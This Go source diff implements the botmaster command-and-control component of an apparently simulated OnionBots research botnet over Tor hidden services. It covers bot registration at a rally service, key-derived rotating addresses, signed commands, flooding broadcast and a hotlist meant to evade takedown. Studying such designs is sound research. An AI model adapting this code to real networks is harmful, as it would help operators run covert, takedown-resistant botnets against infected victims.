@@ -1,0 +1,282 @@
+package core
+
+import (
+	"crypto/ed25519"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"sort"
+	"time"
+
+	"onionbots/internal/botcrypto"
+	"onionbots/internal/tor"
+)
+
+// BotRecord is the botmaster's registry entry for one bot: the shared
+// key K_B (everything else — including the bot's address at any future
+// time — derives from it) and rally metadata.
+type BotRecord struct {
+	KB           []byte
+	FirstOnion   string
+	RegisteredAt time.Time
+}
+
+// ID is a stable identifier for the record (hash of K_B).
+func (r *BotRecord) ID() string {
+	sum := sha256.Sum256(r.KB)
+	return hex.EncodeToString(sum[:8])
+}
+
+// Botmaster is the C&C operator: it holds the signing and encryption
+// keys whose public halves are hardcoded into every bot, hosts the
+// rally hidden service, and can reach any registered bot at any time
+// through the shared key schedule — without ever revealing itself.
+type Botmaster struct {
+	net   *tor.Network
+	proxy *tor.OnionProxy
+	drbg  *botcrypto.DRBG
+
+	signPub  ed25519.PublicKey
+	signPriv ed25519.PrivateKey
+	enc      *botcrypto.EncryptionKeyPair
+
+	identity *tor.Identity
+	hs       *tor.HiddenService
+	netKey   []byte
+	groups   *botcrypto.GroupKeyring
+	queues   map[string][]*Command // pull-mode command queues by bot id
+
+	registry map[string]*BotRecord // keyed by BotRecord.ID()
+
+	// HotlistSize, when positive, makes the C&C answer each rally
+	// report with that many current addresses of other registered bots.
+	// Registration requires sealing K_B to the master's key, which the
+	// paper's legally-constrained authorities cannot do — so the
+	// hotlist is clone-free by construction. SuperOnion replacements
+	// (Section VII-B) rely on this to re-bootstrap out of containment.
+	HotlistSize int
+}
+
+// NewBotmaster creates the C&C with deterministic keys from seed and
+// hosts its rally service.
+func NewBotmaster(net *tor.Network, seed []byte) (*Botmaster, error) {
+	drbg := botcrypto.NewDRBG(append([]byte("botmaster:"), seed...))
+	signPub, signPriv, err := ed25519.GenerateKey(drbg)
+	if err != nil {
+		return nil, fmt.Errorf("core: master sign keys: %w", err)
+	}
+	enc, err := botcrypto.NewEncryptionKeyPair(drbg)
+	if err != nil {
+		return nil, fmt.Errorf("core: master enc keys: %w", err)
+	}
+	m := &Botmaster{
+		net:      net,
+		proxy:    tor.NewProxy(net),
+		drbg:     drbg,
+		signPub:  signPub,
+		signPriv: signPriv,
+		enc:      enc,
+		netKey:   drbg.Bytes(32),
+		groups:   botcrypto.NewGroupKeyring(),
+		queues:   make(map[string][]*Command),
+		registry: make(map[string]*BotRecord),
+	}
+	var idSeed [32]byte
+	copy(idSeed[:], drbg.Bytes(32))
+	m.identity = tor.IdentityFromSeed(idSeed)
+	hs, err := m.proxy.Host(m.identity, m.onInboundConn)
+	if err != nil {
+		return nil, fmt.Errorf("core: host C&C service: %w", err)
+	}
+	m.hs = hs
+	return m, nil
+}
+
+// SignPub is the public key hardcoded into bots for command
+// verification and the address schedule.
+func (m *Botmaster) SignPub() ed25519.PublicKey { return m.signPub }
+
+// SignPriv exposes the master signing key (used by rental issuance).
+func (m *Botmaster) SignPriv() ed25519.PrivateKey { return m.signPriv }
+
+// EncPub is the public encryption key bots seal K_B to at rally.
+func (m *Botmaster) EncPub() *botcrypto.EncryptionKeyPair {
+	return &botcrypto.EncryptionKeyPair{Pub: m.enc.Pub}
+}
+
+// NetKey is the network-wide sealing key baked into bots at infection.
+func (m *Botmaster) NetKey() []byte { return append([]byte(nil), m.netKey...) }
+
+// Onion is the hardcoded rally address.
+func (m *Botmaster) Onion() string { return m.identity.Onion() }
+
+// Records lists registered bots, sorted by rally order then ID.
+func (m *Botmaster) Records() []*BotRecord {
+	out := make([]*BotRecord, 0, len(m.registry))
+	for _, r := range m.registry {
+		out = append(out, r)
+	}
+	sort.Slice(out, func(i, j int) bool {
+		if !out[i].RegisteredAt.Equal(out[j].RegisteredAt) {
+			return out[i].RegisteredAt.Before(out[j].RegisteredAt)
+		}
+		return out[i].ID() < out[j].ID()
+	})
+	return out
+}
+
+// NumRegistered reports registry size.
+func (m *Botmaster) NumRegistered() int { return len(m.registry) }
+
+func (m *Botmaster) onInboundConn(conn *tor.Conn) {
+	conn.SetHandler(func(msg []byte) { m.onMessage(conn, msg) })
+}
+
+func (m *Botmaster) onMessage(conn *tor.Conn, raw []byte) {
+	plain, err := botcrypto.Open(m.netKey, raw)
+	if err != nil {
+		return
+	}
+	env, err := DecodeEnvelope(plain)
+	if err != nil {
+		return
+	}
+	if env.Type == MsgPoll {
+		if rep, perr := DecodeReport(env.Payload); perr == nil {
+			m.handlePoll(conn, rep)
+		}
+		return
+	}
+	if env.Type != MsgReport {
+		return
+	}
+	rep, err := DecodeReport(env.Payload)
+	if err != nil {
+		return
+	}
+	kb, err := botcrypto.OpenWithPrivate(m.enc.Priv, rep.SealedKB)
+	if err != nil {
+		return // forged or corrupted rally report
+	}
+	rec := &BotRecord{KB: kb, FirstOnion: rep.Onion, RegisteredAt: m.net.Now()}
+	if _, dup := m.registry[rec.ID()]; !dup {
+		m.registry[rec.ID()] = rec
+	}
+	m.replyHotlist(conn, rec)
+}
+
+// replyHotlist answers a rally with current addresses of other
+// registered bots (see HotlistSize).
+func (m *Botmaster) replyHotlist(conn *tor.Conn, reporter *BotRecord) {
+	if m.HotlistSize <= 0 {
+		return
+	}
+	recs := m.Records()
+	pool := make([]string, 0, len(recs))
+	for _, r := range recs {
+		if r.ID() == reporter.ID() {
+			continue
+		}
+		pool = append(pool, m.CurrentOnionOf(r))
+	}
+	m.net.RNG().Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
+	if len(pool) > m.HotlistSize {
+		pool = pool[:m.HotlistSize]
+	}
+	if len(pool) == 0 {
+		return
+	}
+	up := &NoNUpdate{Onion: "", Degree: 0, Neighbors: pool}
+	var env Envelope
+	env.Type = MsgNoNUpdate
+	copy(env.MsgID[:], m.drbg.Bytes(16))
+	env.Payload = up.Encode()
+	sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+	if err != nil {
+		return
+	}
+	_ = conn.Send(sealed)
+}
+
+// NewCommand builds a fresh master-signed command.
+func (m *Botmaster) NewCommand(name string, args []byte) *Command {
+	cmd := &Command{Name: name, Args: args, IssuedAt: m.net.Now()}
+	copy(cmd.Nonce[:], m.drbg.Bytes(16))
+	cmd.SignMaster(m.signPriv)
+	return cmd
+}
+
+// CurrentOnionOf derives where a registered bot is reachable right now,
+// using only K_B and the clock — the Section IV-D property that
+// survives every rotation.
+func (m *Botmaster) CurrentOnionOf(rec *BotRecord) string {
+	ip := botcrypto.PeriodIndex(m.net.Now())
+	return botcrypto.OnionForPeriod(m.signPub, rec.KB, ip)
+}
+
+// Reach dials a bot directly at its current derived address and
+// delivers a command sealed to its K_B.
+func (m *Botmaster) Reach(rec *BotRecord, cmd *Command) error {
+	onion := m.CurrentOnionOf(rec)
+	conn, err := m.proxy.Dial(onion)
+	if err != nil {
+		return fmt.Errorf("core: reach %s: %w", rec.ID(), err)
+	}
+	sealed, err := botcrypto.Seal(rec.KB, cmd.Encode(), m.drbg)
+	if err != nil {
+		return err
+	}
+	return conn.Send(sealed)
+}
+
+// Broadcast pushes a command into the network through the given entry
+// bots; flooding does the rest.
+func (m *Botmaster) Broadcast(viaOnions []string, cmd *Command, ttl uint8) error {
+	var env Envelope
+	env.Type = MsgBroadcast
+	copy(env.MsgID[:], m.drbg.Bytes(16))
+	env.TTL = ttl
+	env.Payload = cmd.Encode()
+	delivered := 0
+	for _, onion := range viaOnions {
+		conn, err := m.proxy.Dial(onion)
+		if err != nil {
+			continue
+		}
+		sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+		if err != nil {
+			return err
+		}
+		if conn.Send(sealed) == nil {
+			delivered++
+		}
+	}
+	if delivered == 0 {
+		return fmt.Errorf("core: broadcast reached no entry bot")
+	}
+	return nil
+}
+
+// FloodDirected pushes a command for one bot into the network through
+// an arbitrary entry bot. Relays cannot open the inner seal and forward
+// it blindly; only the target's K_B opens it.
+func (m *Botmaster) FloodDirected(viaOnion string, rec *BotRecord, cmd *Command, ttl uint8) error {
+	inner, err := botcrypto.SealSized(rec.KB, cmd.Encode(), DirectedSealSize, m.drbg)
+	if err != nil {
+		return err
+	}
+	var env Envelope
+	env.Type = MsgDirected
+	copy(env.MsgID[:], m.drbg.Bytes(16))
+	env.TTL = ttl
+	env.Payload = inner
+	conn, err := m.proxy.Dial(viaOnion)
+	if err != nil {
+		return fmt.Errorf("core: flood-directed via %s: %w", viaOnion, err)
+	}
+	sealed, err := botcrypto.Seal(m.netKey, env.Encode(), m.drbg)
+	if err != nil {
+		return err
+	}
+	return conn.Send(sealed)
+}
